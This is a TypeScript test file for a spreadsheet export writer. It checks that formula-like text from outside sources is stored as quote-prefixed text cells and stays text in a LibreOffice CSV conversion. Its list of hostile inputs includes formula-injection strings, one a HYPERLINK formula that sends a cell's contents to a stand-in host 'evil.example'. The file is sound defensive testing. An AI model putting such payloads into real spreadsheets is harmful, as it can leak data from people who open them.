import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MessageChannel } from 'node:worker_threads';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import type { ExportColumn, FromWorker } from './protocol.js';
import { looksLikeFormula } from './quote-prefix.js';
import { writeXlsxExport } from './xlsx-writer.js';

/*
 * Text from outside the firm (a client's name, a document's title) may look like a formula. In an export it is a
 * text cell marked with the cell format's quotePrefix, so no spreadsheet evaluates it when the cell is edited or
 * the sheet saved as CSV.
 */

const COLUMNS: ExportColumn[] = [
  { kind: 'text', header: 'Name' },
  { kind: 'amount', header: 'Premium' },
];
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '+1+2',
  '-3+4',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

/** Runs the export writer in this thread: rows in, the file's bytes out. */
async function workbookOf(rows: unknown[][]): Promise<Buffer> {
  const channel = new MessageChannel();
  const chunks: Uint8Array[] = [];
  const done = new Promise<void>((resolve, reject) => {
    channel.port2.on('message', (message: FromWorker) => {
      if (message.type === 'chunk') {
        chunks.push(message.bytes);
        channel.port2.postMessage({ type: 'chunk-ack' });
      } else if (message.type === 'done') resolve();
      else if (message.type === 'failed') reject(new Error(message.message));
    });
  });
  const writing = writeXlsxExport({ sheetName: 'Sheet', columns: COLUMNS, port: channel.port1 });
  channel.port2.postMessage({ type: 'rows', rows });
  channel.port2.postMessage({ type: 'end' });
  await done;
  await writing;
  channel.port2.close();
  return Buffer.concat(chunks);
}

const dir = mkdtempSync(join(tmpdir(), 'quote-prefix-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('text that looks like a formula', () => {
  it('is recognised by its first character', () => {
    for (const text of HOSTILE) expect(looksLikeFormula(text)).toBe(true);
    for (const text of ['Chan Tai Man', '1+1', ' =1', '', 'a=b']) expect(looksLikeFormula(text)).toBe(false);
    expect(looksLikeFormula(-3)).toBe(false);
  });

  it('is written as a text cell whose format has quotePrefix, and plain text is not', async () => {
    const file = await workbookOf([...HOSTILE.map((text) => [text, '12.50']), ['Chan Tai Man', '1.00']]);
    const xlsx = join(dir, 'marked.xlsx');
    writeFileSync(xlsx, file);
    const part = (name: string) => execFileSync('unzip', ['-p', xlsx, name], { encoding: 'utf8' });
    const styles = part('xl/styles.xml');
    const cellXfs = styles.slice(styles.indexOf('<cellXfs'));
    const cellFormats = [...cellXfs.matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    const sheet = part('xl/worksheets/sheet1.xml');
    const styleOf = (ref: string) =>
      Number(new RegExp(`<c r="${ref}"[^>]* s="(\\d+)"`).exec(sheet)?.[1] ?? 0);
    for (let row = 2; row < 2 + HOSTILE.length; row++) {
      expect(cellFormats[styleOf(`A${row}`)]).toContain('quotePrefix="1"');
      expect(sheet).not.toMatch(new RegExp(`<c r="A${row}"[^>]*>\\s*<f>`));
      // The amount beside it keeps its own number format, without the mark.
      expect(cellFormats[styleOf(`B${row}`)]).not.toContain('quotePrefix');
    }
    expect(cellFormats[styleOf(`A${2 + HOSTILE.length}`)] ?? '').not.toContain('quotePrefix');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file as unknown as ArrayBuffer);
    const cells = workbook.worksheets[0]?.getColumn(1).values.slice(2) ?? [];
    // The text comes back as written (a carriage return reads back as a line feed: XML keeps no bare CR).
    expect(cells.slice(0, HOSTILE.length)).toEqual(HOSTILE.map((text) => text.replace('\r', '\n')));
  });

  it.runIf(existsSync('/usr/bin/soffice'))(
    'stays text in LibreOffice, saved as CSV',
    async () => {
      const file = await workbookOf([
        ['=1+2', '1.00'],
        ['@SUM(4,5)', '2.00'],
        ['Plain', '3.00'],
      ]);
      const xlsx = join(dir, 'hostile.xlsx');
      writeFileSync(xlsx, file);
      execFileSync(
        'soffice',
        [
          `-env:UserInstallation=file://${dir}/profile`,
          '--headless',
          '--convert-to',
          'csv',
          '--outdir',
          dir,
          xlsx,
        ],
        { stdio: 'ignore', timeout: 120_000 },
      );
      const csv = readFileSync(join(dir, 'hostile.csv'), 'utf8').trim().split(/\r?\n/);
      // Not 3 and 9: LibreOffice read the cells as text, not as formulas to evaluate.
      expect(csv.map((line) => line.replace(/,[^,]*$/, ''))).toEqual([
        'Name',
        '=1+2',
        '"@SUM(4,5)"',
        'Plain',
      ]);
    },
    150_000,
  );
});
